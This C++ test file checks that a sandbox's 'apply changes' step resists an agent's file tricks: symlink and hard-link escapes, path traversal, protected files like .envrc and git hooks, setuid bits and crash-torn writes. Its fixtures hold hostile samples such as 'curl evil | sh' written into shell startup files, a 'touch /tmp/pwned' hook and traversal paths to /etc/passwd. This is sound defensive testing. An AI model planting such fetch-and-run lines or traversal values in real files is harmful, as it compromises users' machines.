#include "fixture.hpp"

#include "cordon/protocol/jsonrpc.hpp"
#include "cordon/server/changes/apply.hpp"
#include "cordon/server/changes/hash.hpp"
#include "cordon/server/changes/request_path.hpp"

#include <signal.h>
#include <sys/wait.h>
#include <sys/xattr.h>

#include <thread>

using namespace cordon::server::changes;
using cordon::protocol::json;
using cordon::protocol::RpcError;
using namespace cordon_test;

namespace {

ApplyFile entry(const ChangeSet& c, const std::string& path) {
    auto* f = find(c, path);
    REQUIRE(f);
    return {path, f->base.hash, f->sandbox.hash};
}

bool has_conflict(const ApplyResult& r, const std::string& path, const std::string& why = "") {
    for (const auto& c : r.conflicts)
        if (c.path == path && c.reason.find(why) != std::string::npos) return true;
    return false;
}

bool contains(const std::vector<std::string>& v, const std::string& s) {
    return std::find(v.begin(), v.end(), s) != v.end();
}

const std::string kBashrc = "# the user's real bashrc\n";

} // namespace

TEST_CASE("apply writes what the user saw, then the diff is empty and the sandbox keeps it",
          "[changes][apply]") {
    Overlay o;
    spit(o.real("mod.txt"), "old\n");
    spit(o.real("del.txt"), "bye\n");
    spit(o.real("gone/x.txt"), "x\n");
    o.mount();
    spit(o.sb("mod.txt"), "new\n");
    fs::remove(o.sb("del.txt"));
    spit(o.sb("a/b/c.txt"), "deep\n");
    fs::permissions(o.sb("a/b/c.txt"), fs::perms(0750));
    fs::remove_all(o.sb("gone"));
    fs::create_symlink("a/b/c.txt", o.sb("lnk"));

    ChangeSet c = compute_changes(o.files());
    REQUIRE(c.files.size() == 5);
    ApplyRequest req;
    req.files = std::vector<ApplyFile>{};
    for (auto& f : c.files)
        req.files->push_back(entry(c, f.path));
    ApplyResult r = apply_changes(o.files(), req);
    CHECK(r.conflicts.empty());
    CHECK(r.applied.size() == 5);
    CHECK(slurp(o.real("mod.txt")) == "new\n");
    CHECK_FALSE(fs::exists(o.real("del.txt")));
    CHECK_FALSE(fs::exists(o.real("gone"))); // the emptied directory went too
    CHECK(slurp(o.real("a/b/c.txt")) == "deep\n");
    CHECK((fs::status(o.real("a/b/c.txt")).permissions() & fs::perms::mask) == fs::perms(0750));
    CHECK(fs::read_symlink(o.real("lnk")) == "a/b/c.txt");
    CHECK(compute_changes(o.files()).files.empty());
    CHECK(slurp(o.sb("mod.txt")) == "new\n");
    // applied.json keeps the applied paths out even when the user edits the real file later.
    spit(o.real("a/b/c.txt"), "user edit\n");
    CHECK(compute_changes(o.files()).files.empty());
    // ... and a new change in the sandbox shows again.
    spit(o.sb("a/b/c.txt"), "sandbox again\n");
    ChangeSet again = compute_changes(o.files());
    REQUIRE(again.files.size() == 1);
    CHECK(again.files[0].base.hash == sha256_hex("user edit\n"));
    // Retrying an apply that already happened is not a conflict.
    ApplyRequest retry;
    retry.files = std::vector<ApplyFile>{{"mod.txt", sha256_hex("old\n"), sha256_hex("new\n")}};
    CHECK(apply_changes(o.files(), retry).applied == std::vector<std::string>{"mod.txt"});
}

TEST_CASE("apply without a file list applies every unprotected pending file", "[changes][apply]") {
    Overlay o;
    o.mount();
    spit(o.sb("a.txt"), "a");
    spit(o.sb(".envrc"), "export X=1");
    ApplyResult r = apply_changes(o.files(), ApplyRequest{});
    CHECK(r.applied == std::vector<std::string>{"a.txt"});
    CHECK(r.protected_paths == std::vector<std::string>{".envrc"});
    CHECK_FALSE(fs::exists(o.real(".envrc")));
    CHECK(to_json(r)["protected"] == json{".envrc"});
}

TEST_CASE("apply never writes through a symlink in the real tree (APPLY-01)",
          "[changes][apply][security]") {
    Overlay o;
    fs::create_symlink("../fakehome/.bashrc", o.real("config"));
    fs::create_symlink("../fakehome", o.real("vendor"));
    spit(o.real("lib/keep.txt"), "k");
    o.mount();
    // The agent replaces the file symlink with a regular file, and the dir symlink with a dir.
    fs::remove(o.sb("config"));
    spit(o.sb("config"), "curl evil | sh\n");
    fs::remove(o.sb("vendor"));
    spit(o.sb("vendor/.bashrc"), "curl evil | sh\n");
    spit(o.sb("lib/new.txt"), "n");

    ChangeSet c = compute_changes(o.files());
    REQUIRE(find(c, "config"));
    CHECK(find(c, "config")->base.type == EntryType::symlink);
    CHECK(find(c, "vendor")->status == "deleted");
    CHECK(find(c, "vendor/.bashrc")->status == "added");

    SECTION("only the file inside the dir symlink: refused, nothing written through it") {
        ApplyRequest req;
        req.files = std::vector<ApplyFile>{entry(c, "vendor/.bashrc")};
        req.confirm_protected = {"vendor/.bashrc"};
        ApplyResult r = apply_changes(o.files(), req);
        INFO(to_json(r).dump());
        CHECK(has_conflict(r, "vendor/.bashrc", "symlink"));
        CHECK(slurp(o.fakehome / ".bashrc") == kBashrc);
        CHECK(fs::is_symlink(o.real("vendor")));
    }
    SECTION("everything: the links are replaced, their targets untouched") {
        ApplyRequest req;
        req.files = std::vector<ApplyFile>{entry(c, "config"), entry(c, "vendor"),
                                           entry(c, "vendor/.bashrc"), entry(c, "lib/new.txt")};
        req.confirm_protected = {"vendor/.bashrc"};
        ApplyResult r = apply_changes(o.files(), req);
        CHECK(r.conflicts.empty());
        CHECK(slurp(o.fakehome / ".bashrc") == kBashrc);
        CHECK_FALSE(fs::is_symlink(o.real("config")));
        CHECK(slurp(o.real("config")) == "curl evil | sh\n");
        CHECK(fs::is_directory(fs::symlink_status(o.real("vendor"))));
        CHECK(fs::directory_iterator(o.fakehome) != fs::directory_iterator());
        CHECK(std::distance(fs::directory_iterator(o.fakehome), fs::directory_iterator()) == 1);
    }
    SECTION("a directory flipped to a symlink between diff and apply fails closed (APPLY-05)") {
        fs::remove_all(o.real("lib"));
        fs::create_symlink("../fakehome", o.real("lib"));
        ApplyRequest req;
        req.files = std::vector<ApplyFile>{entry(c, "lib/new.txt")};
        ApplyResult r = apply_changes(o.files(), req);
        CHECK(has_conflict(r, "lib/new.txt"));
        CHECK_FALSE(fs::exists(o.fakehome / "new.txt"));
    }
}

TEST_CASE("a hard link to a file outside the workspace is replaced, never written in place "
          "(APPLY-01)",
          "[changes][apply][security]") {
    Overlay o;
    spit(o.fakehome / "secret", "outside\n");
    fs::create_hard_link(o.fakehome / "secret", o.real("hl"));
    o.mount();
    spit(o.sb("hl"), "overwritten\n");
    ChangeSet c = compute_changes(o.files());
    ApplyRequest req;
    req.files = std::vector<ApplyFile>{entry(c, "hl")};
    ApplyResult r = apply_changes(o.files(), req);
    CHECK(r.applied == std::vector<std::string>{"hl"});
    CHECK(slurp(o.fakehome / "secret") == "outside\n");
    CHECK(slurp(o.real("hl")) == "overwritten\n");
    CHECK(fs::hard_link_count(o.real("hl")) == 1);
}

TEST_CASE("symlinks leaving the workspace are never created (APPLY-01)",
          "[changes][apply][security]") {
    Overlay o;
    o.mount();
    fs::create_symlink("../fakehome/.bashrc", o.sb("up"));
    fs::create_symlink("/etc/passwd", o.sb("abs"));
    fs::create_symlink("sub/../../x", o.sb("sneaky"));
    fs::create_symlink(o.ws / "inside.txt", o.sb("absinside"));
    fs::create_symlink("inside.txt", o.sb("rel"));
    spit(o.sb("inside.txt"), "i");
    ApplyResult r = apply_changes(o.files(), ApplyRequest{});
    CHECK(has_conflict(r, "up", "leaves the workspace"));
    CHECK(has_conflict(r, "abs", "leaves the workspace"));
    CHECK(has_conflict(r, "sneaky", "leaves the workspace"));
    CHECK(contains(r.applied, "absinside"));
    CHECK(contains(r.applied, "rel"));
    CHECK_FALSE(fs::exists(fs::symlink_status(o.real("up"))));
    CHECK_FALSE(fs::exists(fs::symlink_status(o.real("abs"))));
}

TEST_CASE("traversal in apply params is rejected before anything is touched (APPLY-02)",
          "[changes][apply][security]") {
    Overlay o;
    o.mount();
    spit(o.sb("ok.txt"), "ok");
    std::string h = sha256_hex("ok");
    for (std::string bad : std::vector<std::string>{
             "../fakehome/.bashrc", "a/../../fakehome/.bashrc", o.fakehome.string() + "/.bashrc",
             o.ws.string() + "-evil/x", "x\ny", "x\r", std::string("x\0y", 3),
             std::string(4096, 'a'), "/proc/self/root/etc/passwd"}) {
        INFO(printable_path(bad));
        ApplyRequest req;
        req.files = std::vector<ApplyFile>{{"ok.txt", "", h}, {bad, "", h}};
        CHECK_THROWS_AS(apply_changes(o.files(), req), RpcError);
        ApplyRequest conf;
        conf.confirm_protected = {bad};
        CHECK_THROWS_AS(apply_changes(o.files(), conf), RpcError);
    }
    CHECK_FALSE(fs::exists(o.real("ok.txt")));
    CHECK(slurp(o.fakehome / ".bashrc") == kBashrc);
    // Bad hashes, duplicates, wrong types.
    ApplyRequest dup;
    dup.files = std::vector<ApplyFile>{{"ok.txt", "", h}, {"./ok.txt", "", h}};
    CHECK_THROWS_AS(apply_changes(o.files(), dup), RpcError);
    ApplyRequest badhash;
    badhash.files = std::vector<ApplyFile>{{"ok.txt", "", "zz"}};
    CHECK_THROWS_AS(apply_changes(o.files(), badhash), RpcError);
    CHECK_THROWS_AS(apply_request_from_json(json{{"files", {{{"path", 1}}}}}), RpcError);
    auto parsed = apply_request_from_json(
        json{{"files", {{{"path", "ok.txt"}, {"baseHash", ""}, {"newHash", h}}}}});
    CHECK(apply_changes(o.files(), parsed).applied == std::vector<std::string>{"ok.txt"});
}

TEST_CASE("unusable upper-dir names are never applied (APPLY-02)", "[changes][apply][security]") {
    Overlay o;
    o.mount();
    spit(o.sb("evil\nname"), "x");
    spit(o.sb("dir\r/f"), "x");
    ApplyResult r = apply_changes(o.files(), ApplyRequest{});
    CHECK(r.applied.empty());
    for (auto& e : fs::directory_iterator(o.ws))
        FAIL("real workspace got " << e.path());
}

TEST_CASE("protected paths need a per-file confirmation, .git never applies (APPLY-03)",
          "[changes][apply][security]") {
    Overlay o;
    fs::create_directories(o.real(".git/hooks"));
    o.mount();
    spit(o.sb(".vscode/tasks.json"), R"({"tasks":[{"runOptions":{"runOn":"folderOpen"}}]})");
    spit(o.sb(".envrc"), "curl evil | sh");
    spit(o.sb(".github/workflows/ci.yml"), "on: push");
    spit(o.sb(".claude/settings.json"), "{}");
    spit(o.sb(".git/hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned");
    spit(o.sb("nested/.git/config"), "[core]\nfsmonitor = evil");
    spit(o.sb("src.c"), "int main;");
    ChangeSet c = compute_changes(o.files());
    CHECK(find(c, ".vscode/tasks.json")->is_protected);
    CHECK(find(c, ".envrc")->is_protected);
    CHECK_FALSE(find(c, "src.c")->is_protected);
    CHECK_FALSE(find(c, ".git/hooks/pre-commit"));
    CHECK_FALSE(find(c, "nested/.git/config"));

    ApplyRequest req;
    req.files = std::vector<ApplyFile>{entry(c, ".vscode/tasks.json"),
                                       entry(c, ".envrc"),
                                       entry(c, ".github/workflows/ci.yml"),
                                       entry(c, ".claude/settings.json"),
                                       entry(c, "src.c"),
                                       {".git/hooks/pre-commit", "", sha256_hex("x")}};
    req.confirm_protected = {".git/hooks/pre-commit"};
    ApplyResult r = apply_changes(o.files(), req);
    CHECK(r.applied == std::vector<std::string>{"src.c"});
    CHECK(r.protected_paths.size() == 4);
    CHECK(has_conflict(r, ".git/hooks/pre-commit", "never"));
    CHECK_FALSE(fs::exists(o.real(".vscode")));
    CHECK_FALSE(fs::exists(o.real(".git/hooks/pre-commit")));

    req.confirm_protected = {".vscode/tasks.json", o.ws.string() + "/.envrc"};
    r = apply_changes(o.files(), req);
    CHECK(contains(r.applied, ".vscode/tasks.json"));
    CHECK(contains(r.applied, ".envrc"));
    CHECK(contains(r.protected_paths, ".claude/settings.json"));
    CHECK(fs::exists(o.real(".vscode/tasks.json")));
    CHECK_FALSE(fs::exists(o.real(".claude")));
    CHECK_FALSE(fs::exists(o.real("nested")));
}

TEST_CASE("a file changed on either side after the diff is a conflict (APPLY-05)",
          "[changes][apply][security]") {
    Overlay o;
    spit(o.real("user.txt"), "v1\n");
    spit(o.real("agent.txt"), "v1\n");
    spit(o.real("both.txt"), "v1\n");
    o.mount();
    spit(o.sb("user.txt"), "sandbox\n");
    spit(o.sb("agent.txt"), "sandbox\n");
    spit(o.sb("new.txt"), "sandbox\n");
    ChangeSet c = compute_changes(o.files());
    // The user edits the real file; a process left in the sandbox keeps writing.
    spit(o.real("user.txt"), "user's precious edit\n");
    spit(o.sb("agent.txt"), "sneaky second write\n");
    spit(o.real("new.txt"), "user created it meanwhile\n");
    ApplyRequest req;
    req.files =
        std::vector<ApplyFile>{entry(c, "user.txt"), entry(c, "agent.txt"), entry(c, "new.txt")};
    ApplyResult r = apply_changes(o.files(), req);
    CHECK(r.applied.empty());
    CHECK(has_conflict(r, "user.txt", "real file changed"));
    CHECK(has_conflict(r, "agent.txt", "sandbox"));
    CHECK(has_conflict(r, "new.txt"));
    CHECK(slurp(o.real("user.txt")) == "user's precious edit\n");
    CHECK(slurp(o.real("agent.txt")) == "v1\n");
    CHECK(slurp(o.real("new.txt")) == "user created it meanwhile\n");
}

TEST_CASE("special bits and xattrs are not carried, hard links become separate files (APPLY-04)",
          "[changes][apply][security]") {
    Overlay o;
    o.mount();
    spit(o.sb("suid"), "#!/bin/sh\n");
    fs::permissions(o.sb("suid"), fs::perms(06755));
    ::setxattr(o.sb("suid").c_str(), "user.evil", "1", 1, 0);
    spit(o.sb("h1"), "same inode\n");
    fs::create_hard_link(o.sb("h1"), o.sb("h2"));
    REQUIRE(::mkfifo(o.sb("fifo").c_str(), 0644) == 0);
    ApplyResult r = apply_changes(o.files(), ApplyRequest{});
    CHECK(r.applied == std::vector<std::string>{"h1", "h2", "suid"});
    struct stat st;
    REQUIRE(::lstat(o.real("suid").c_str(), &st) == 0);
    CHECK((st.st_mode & 07777) == 0755);
    char v[4];
    CHECK(::getxattr(o.real("suid").c_str(), "user.evil", v, sizeof v) < 0);
    CHECK(fs::hard_link_count(o.real("h1")) == 1);
    CHECK(fs::hard_link_count(o.real("h2")) == 1);
    CHECK_FALSE(fs::exists(fs::symlink_status(o.real("fifo"))));
}

namespace {
int g_progress_fd = -1;
void report_progress(std::size_t i, const std::string&) {
    char b = 1;
    if (::write(g_progress_fd, &b, 1) < 0) _exit(3);
}
} // namespace

TEST_CASE("kill -9 in the middle of a large apply leaves every file old or new",
          "[changes][apply][crash]") {
    Overlay o;
    const int n = 200;
    const std::size_t size = 256 * 1024;
    auto content = [&](char c, int i) {
        std::string s(size, c);
        std::memcpy(s.data(), &i, sizeof i);
        return s;
    };
    for (int i = 0; i < n; ++i)
        spit(o.real("f/" + std::to_string(i)), content('o', i));
    o.mount();
    for (int i = 0; i < n; ++i)
        spit(o.sb("f/" + std::to_string(i)), content('n', i));
    ChangeSet c = compute_changes(o.files());
    REQUIRE(c.files.size() == n);
    ApplyRequest req;
    req.files = std::vector<ApplyFile>{};
    for (auto& f : c.files)
        req.files->push_back({f.path, f.base.hash, f.sandbox.hash});

    int pipefd[2];
    REQUIRE(::pipe(pipefd) == 0);
    pid_t pid = ::fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {
        ::close(pipefd[0]);
        g_progress_fd = pipefd[1];
        ApplyOptions opts;
        opts.after_file = report_progress;
        try {
            apply_changes(o.files(), req, opts);
        } catch (...) {
            _exit(2);
        }
        _exit(0);
    }
    ::close(pipefd[1]);
    char b;
    for (int done = 0; done < n / 3; ++done)
        REQUIRE(::read(pipefd[0], &b, 1) == 1);
    ::kill(pid, SIGKILL);
    int status = 0;
    ::waitpid(pid, &status, 0);
    ::close(pipefd[0]);
    REQUIRE(WIFSIGNALED(status));

    int old_count = 0, new_count = 0;
    for (int i = 0; i < n; ++i) {
        std::string now = slurp(o.real("f/" + std::to_string(i)));
        if (now == content('o', i))
            ++old_count;
        else if (now == content('n', i))
            ++new_count;
        else
            FAIL("file " << i << " is torn (" << now.size() << " bytes)");
    }
    CHECK(new_count >= n / 3);
    CHECK(old_count > 0);
    // Recoverable: leftovers go, the rest applies, the journal is gone.
    recover_apply(o.files());
    for (auto& e : fs::directory_iterator(o.real("f")))
        CHECK(e.path().filename().string().rfind(".cordon-apply-", 0) != 0);
    ChangeSet rest = compute_changes(o.files());
    CHECK(rest.files.size() == static_cast<std::size_t>(old_count));
    ApplyResult r = apply_changes(o.files(), ApplyRequest{});
    CHECK(r.conflicts.empty());
    CHECK(compute_changes(o.files()).files.empty());
    CHECK_FALSE(fs::exists(o.state / "apply.journal"));
}

TEST_CASE("discard (overlay unmounted) drops listed or all pending changes", "[changes][discard]") {
    Overlay o;
    spit(o.real("mod.txt"), "real\n");
    spit(o.real("del.txt"), "real del\n");
    spit(o.real("dir/a.txt"), "a\n");
    spit(o.real("dir/b.txt"), "b\n");
    o.mount();
    spit(o.sb("mod.txt"), "sandbox\n");
    fs::remove(o.sb("del.txt"));
    fs::remove_all(o.sb("dir"));
    spit(o.sb("added.txt"), "new\n");
    spit(o.sb(".git/x"), "git change");
    REQUIRE(compute_changes(o.files()).files.size() == 5);

    o.unmount();
    auto out = discard_changes_offline(o.files(false), {"mod.txt", "dir/a.txt", "added.txt"});
    CHECK(out.size() == 3);
    CHECK_THROWS_AS(discard_changes_offline(o.files(false), {"../x"}), RpcError);
    o.mount();
    ChangeSet c = compute_changes(o.files());
    std::vector<std::string> left;
    for (auto& f : c.files)
        left.push_back(f.path);
    CHECK(left == std::vector<std::string>{"del.txt", "dir/b.txt"});
    CHECK(slurp(o.sb("mod.txt")) == "real\n");
    CHECK(slurp(o.sb("dir/a.txt")) == "a\n");
    CHECK_FALSE(fs::exists(o.sb("dir/b.txt")));
    CHECK_FALSE(fs::exists(o.sb("added.txt")));

    o.unmount();
    discard_changes_offline(o.files(false), {});
    o.mount();
    CHECK(compute_changes(o.files()).files.empty());
    CHECK(slurp(o.sb("dir/b.txt")) == "b\n");
    CHECK(fs::is_empty(o.upper));
}

TEST_CASE("discard through the sandbox's view while the overlay is mounted", "[changes][discard]") {
    Overlay o;
    spit(o.real("mod.txt"), "real\n");
    spit(o.real("del.txt"), "real del\n");
    spit(o.real("dir/a.txt"), "a\n");
    spit(o.real("dir/b.txt"), "b\n");
    spit(o.real("todir"), "was a file\n");
    fs::create_symlink("mod.txt", o.real("lnk"));
    o.mount();
    spit(o.sb("mod.txt"), "sandbox\n");
    fs::remove(o.sb("del.txt"));
    fs::remove_all(o.sb("dir"));
    spit(o.sb("dir"), "now a file\n");
    fs::remove(o.sb("todir"));
    spit(o.sb("todir/x"), "x\n");
    fs::remove(o.sb("lnk"));
    spit(o.sb("lnk"), "no longer a link\n");
    spit(o.sb("added.txt"), "new\n");
    spit(o.sb("keep.txt"), "keep me\n");
    CHECK_THROWS_AS(discard_changes_through_view(o.files(false), {}), RpcError);

    auto out = discard_changes_through_view(
        o.files(), {"mod.txt", "del.txt", "dir", "todir", "lnk", "added.txt"});
    CHECK(out.size() == 9);
    ChangeSet c = compute_changes(o.files());
    REQUIRE(c.files.size() == 1);
    CHECK(c.files[0].path == "keep.txt");
    CHECK(slurp(o.sb("mod.txt")) == "real\n");
    CHECK(slurp(o.sb("del.txt")) == "real del\n");
    CHECK(slurp(o.sb("dir/b.txt")) == "b\n");
    CHECK(slurp(o.sb("todir")) == "was a file\n");
    CHECK(fs::read_symlink(o.sb("lnk")) == "mod.txt");
    CHECK_FALSE(fs::exists(o.sb("added.txt")));
    // A later edit of the real file is not shown as the sandbox reverting it.
    spit(o.real("mod.txt"), "user edit\n");
    CHECK(compute_changes(o.files()).files.size() == 1);
}

TEST_CASE("a file the sandbox cannot see (masked) is never turned into a deletion",
          "[changes][apply][security]") {
    Overlay o;
    spit(o.real("secret/key"), "real key\n");
    spit(o.real("other.txt"), "o\n");
    o.mount();
    spit(o.sb("secret/key"), "agent copy\n");
    // A deny-read mask mounted over the directory later (as a new policy would).
    REQUIRE(::mount("tmpfs", o.sb("secret").c_str(), "tmpfs", 0, "size=1m") == 0);
    ChangeSet c = compute_changes(o.files());
    CHECK_FALSE(find(c, "secret/key"));
    bool listed = false;
    for (auto& k : c.skipped)
        listed = listed || k.path == "secret/key";
    CHECK(listed);
    ApplyResult r = apply_changes(o.files(), ApplyRequest{});
    CHECK(r.applied.empty());
    CHECK(slurp(o.real("secret/key")) == "real key\n");
    ::umount2(o.sb("secret").c_str(), MNT_DETACH);
}
